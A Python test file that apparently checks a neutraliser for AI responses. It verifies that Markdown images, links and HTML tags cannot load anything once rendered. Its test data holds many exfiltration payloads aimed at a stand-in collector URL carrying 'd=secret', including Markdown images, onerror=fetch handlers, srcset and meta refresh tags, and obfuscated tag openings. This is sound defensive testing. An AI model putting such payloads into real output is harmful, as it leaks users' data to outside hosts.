"""After neutralising, no request leaves: whatever a Markdown renderer or a browser makes of a text, it loads nothing.

The renderer is markdown-it-py, which passes CommonMark's own tests; the browser's eyes are html5lib's, which reads HTML
as the standard says a browser does. Both read thousands of variants, and before neutralising they find what would be
loaded.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

import html5lib
import pytest
from markdown_it import MarkdownIt

from response_interceptor.neutralise import shown, unlinked

RENDERERS = {
    "commonmark": MarkdownIt("commonmark"),
    "with HTML and tables": MarkdownIt("js-default", {"html": True, "linkify": False}),
}
SHELL = {"html", "head", "body"}  # the elements that a browser makes of a text without any
PLAIN = {*SHELL, *"p em strong code pre blockquote ul ol li hr br h1 h2 h3 h4 h5 h6".split()}
PLAIN |= set("table thead tbody tr th td s".split())
ATTRIBUTES = {"start", "align", "style", "class"}  # of lists, table cells and code blocks


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    for element in html5lib.parse(html, namespaceHTMLElements=False).iter():
        if isinstance(element.tag, str):
            yield element.tag, dict(element.attrib)
        else:
            yield "comment", {}


def harmless(text: str) -> str:
    return unlinked(shown(text)[0])[0]


def loaded_as_html(text: str) -> list[str]:
    """What stands in a text that a browser is given as HTML, besides text."""
    return [name for name, _ in elements(text) if name not in SHELL]


def loaded_as_markdown(text: str, renderer: str) -> list[tuple[str, dict[str, str]]]:
    """What stands in a rendered text that could load, link or run something: all but plain structure."""
    return [
        (name, attributes)
        for name, attributes in elements(RENDERERS[renderer].render(text))
        if name not in PLAIN
        or attributes.keys() - ATTRIBUTES
        or not attributes.get("style", "text-align").startswith("text-align")
    ]


URL = "https://collect.example/p.png?d=secret"
MARKDOWN = [
    f"![a]({URL})", f"![a](<{URL}>)", f"![a]( {URL} 'title')", f"[![a]({URL})]({URL})", f"![a\\]b]({URL})",
    f"![a][1]\n\n[1]: {URL}", f"![1][]\n\n[1]: {URL}", f"![1]\n\n[1]: {URL}", f"![a\nb]\n\n[a\nb]: {URL}",
    f"[1]:\n{URL}\n\n![a][1]", f"[1]: <{URL}> 'title'\n\n![a][1]", f"![x\\]y]\n\n[x\\]y]: {URL}",
    f"<{URL}>", "<a.person@collect.example>", f"[a]({URL})", f"![a](\n{URL}\n)", f"![[a]]({URL})",
    f"*![a]({URL})*", f"![`a`]({URL})", f"![a]({URL}#\u200b)", f"!\u200b[a]({URL})", f"![a]\u200b({URL})",
]  # fmt: skip
CONTAINERS = [
    *("{}", "> {}", "- {}", "1. {}", "> > - {}", "# {}", "    {}", "\t{}", "text {} text", "```\n{}\n```"),
    *("| {} |\n|---|", "{}\r\n", "\r\n{}", "<b>{}</b>", "`{}", "~~{}~~"),
]
TAGS = [
    *"a area audio base body bgsound button details div embed font form frame frameset iframe image img input".split(),
    *"isindex link marquee math meta object picture portal script source style svg table td template track".split(),
    *"video x-y".split(),
]
HOLDERS = [
    *("src=U", "href=U", "style='background:url(U)'", "background=U", "srcset='U 2x'", "onerror=fetch('U')"),
    *("xlink:href=U", "poster=U", "action=U", "ontoggle=fetch('U') open", "data=U"),
    "http-equiv=refresh content='0;url=U'",
]
OPENINGS = [
    *("<{} {}>", "<{}/{}>", "<{}\n{}>", "<{}\t{} ", "</{} {}>", "<{} {}//", "<!--><{} {}>"),
    *("<![CDATA[<{} {}>]]>", "<svg><{} {}>"),
]


def markdown_variants() -> Iterator[str]:
    for inner, outer in itertools.product(MARKDOWN, CONTAINERS):
        yield outer.format(inner.replace("\n", "\n> ") if outer.startswith(">") else inner)


def html_variants() -> Iterator[str]:
    for tag, held, opening in itertools.product(TAGS, HOLDERS, OPENINGS):
        written = opening.format(tag, held.replace("U", URL))
        yield written
        yield written.upper()


def mixed(number: int) -> Iterator[str]:
    """Texts of fragments put together at random."""
    chance = random.Random(3)  # noqa: S311 - repeatable, not secret
    fragments = [
        *("[", "]", "(", ")", "!", ":", "<", ">", "/", "?", "-", "\\", "`", "*", "_", "|", "#", "&", ";", "&lt;"),
        *("&#60;", "\n", "\n\n", "\r", " ", "    ", "\t", "a", "img", "src=", '"', "'", URL, "1", "> ", "- ", "\x00"),
        *("\u200b", "\u00a0", "\uff1c", "![a]", "[1]: ", "](", "][", "]:", "<img ", "<!--", "-->", "<a href="),
        *("&Tab;", "&colon;"),
    ]
    for _ in range(number):
        yield "".join(chance.choices(fragments, k=chance.randint(3, 25)))


def test_the_renderers_see_what_would_be_loaded() -> None:
    """Else the tests below would hold of any text."""
    seen = [text for text in markdown_variants() if loaded_as_markdown(text, "commonmark")]
    assert len(seen) > len(list(markdown_variants())) / 2
    tags = [text for text in html_variants() if loaded_as_html(text)]
    assert len(tags) > len(list(html_variants())) / 2
    assert sum(bool(loaded_as_markdown(text, "commonmark")) for text in mixed(4_000)) > 200


@pytest.mark.parametrize("renderer", RENDERERS)
def test_no_markdown_loads_or_links_anything(renderer: str) -> None:
    for text in itertools.chain(markdown_variants(), mixed(4_000)):
        assert not loaded_as_markdown(harmless(text), renderer), text


def test_no_text_has_a_tag_in_a_browser() -> None:
    for text in itertools.chain(html_variants(), markdown_variants(), mixed(4_000)):
        assert not loaded_as_html(harmless(text)), text


def test_no_tag_survives_a_renderer_that_lets_html_pass() -> None:
    chance = random.Random(4)  # noqa: S311 - repeatable, not secret
    for text in chance.sample(list(html_variants()), 1_500):
        assert not loaded_as_markdown(harmless(text), "with HTML and tables"), text


def test_a_text_that_was_neutralised_is_left_as_it_is() -> None:
    for text in itertools.chain(markdown_variants(), mixed(4_000)):
        once = harmless(text)
        assert harmless(once) == once and unlinked(once) == (once, 0)
